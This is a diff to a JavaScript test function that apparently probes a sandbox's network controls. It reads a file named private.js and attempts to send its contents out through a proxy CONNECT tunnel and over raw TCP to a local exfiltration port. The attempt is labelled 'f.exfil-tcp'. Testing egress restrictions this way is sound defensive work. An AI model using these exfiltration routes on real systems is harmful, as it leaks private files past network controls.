@@ -247,16 +247,21 @@ async function network() {
   const t = JSON.parse(process.env.ATTACK_NET ?? '{}');
   const code = readFileSync('private.js', 'utf8');
   const within = (ms, p) => Promise.race([p, sleep(ms).then(() => 'timeout')]);
-  /** Connects, sends `data`, and returns what came back (or the error). */
-  const talk = (opts, data) =>
+  /**
+   * Connects, sends `data`, and returns what came back (or the error). `keepOpen`: the sending
+   * side stays open until the first answer (a proxy's answer to a CONNECT comes after a tick: a
+   * half-close before it makes the server end the socket first).
+   */
+  const talk = (opts, data, keepOpen = false) =>
     within(
-      5000,
+      20_000,
       new Promise((done) => {
         const s = net.connect(opts);
         let got = '';
-        s.on('connect', () => s.end(data));
+        s.on('connect', () => (keepOpen ? s.write(data) : s.end(data)));
         s.on('data', (d) => {
           got += d;
+          if (keepOpen) s.end();
         });
         s.on('close', () => done(`connected, got ${JSON.stringify(got)}`));
         s.on('error', (e) => done(e.code));
@@ -266,7 +271,7 @@ async function network() {
   /** A plain HTTP request through the proxy (or straight to host:port without one). */
   const viaProxy = (method, url, body) =>
     within(
-      5000,
+      20_000,
       new Promise((done) => {
         const u = new URL(url);
         const req = http.request(
@@ -290,6 +295,7 @@ async function network() {
       ? talk(
           { host: proxy.hostname, port: Number(proxy.port) },
           `CONNECT ${target} HTTP/1.1\r\nHost: ${target}\r\n\r\n${code}`,
+          true,
         )
       : 'no proxy';
   await attempt('f.exfil-tcp', () => talk({ host: '127.0.0.1', port: t.exfilPort }, code));
